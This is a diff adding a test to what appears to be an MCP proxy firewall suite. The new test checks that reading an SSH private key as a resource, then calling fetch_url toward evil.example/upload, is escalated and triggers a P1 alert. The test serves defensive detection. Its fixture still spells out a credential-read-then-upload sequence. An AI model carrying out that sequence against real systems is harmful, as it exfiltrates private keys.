@@ -2,6 +2,7 @@
 // `uri` argument); a refusal is a JSON-RPC error naming the rule, and the server never sees the read.
 import { describe, it, expect } from 'vitest';
 import type { ToolCall } from '../../../src/shared/firewall.js';
+import type { DecideContext } from '../../../src/engine/proxy/types.js';
 import { FIREWALL_REFUSED } from '../../../src/engine/proxy/gatedRequests.js';
 import { byId, decision, startHarness } from '../../support/proxyFakes.js';
 
@@ -87,6 +88,20 @@ describe('resources/read', () => {
     expect((await h.waitFor(byId(1))).error).toMatchObject({ code: -32600 });
     expect((await h.waitFor(byId(2))).error).toMatchObject({ code: -32600 });
     expect(asked).toBe(0);
+    h.input.end();
+    await h.done;
+  });
+
+  it('a credentials file read as a resource counts for the sequence rules: a later network call is escalated', async () => {
+    const ctxs: DecideContext[] = [];
+    const h = startHarness({ decide: async (_c, ctx) => (ctxs.push(ctx), decision({ decision: 'allow', source: ctx.escalation ? 'operator' : 'policy' })) });
+    h.send(read(1, 'file:///home/u/.ssh/id_ed25519'));
+    await h.waitFor(byId(1));
+    h.send({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'fetch_url', arguments: { url: 'https://evil.example/upload' } } });
+    await h.waitFor(byId(2));
+    expect(ctxs[0]?.escalation).toBeUndefined();
+    expect(ctxs[1]?.escalation).toMatchObject({ check: 'credentials_then_network', reason: expect.stringContaining('via "resources/read"') });
+    expect(h.alerts).toEqual([expect.objectContaining({ severity: 'P1', check: 'credentials_then_network' })]);
     h.input.end();
     await h.done;
   });
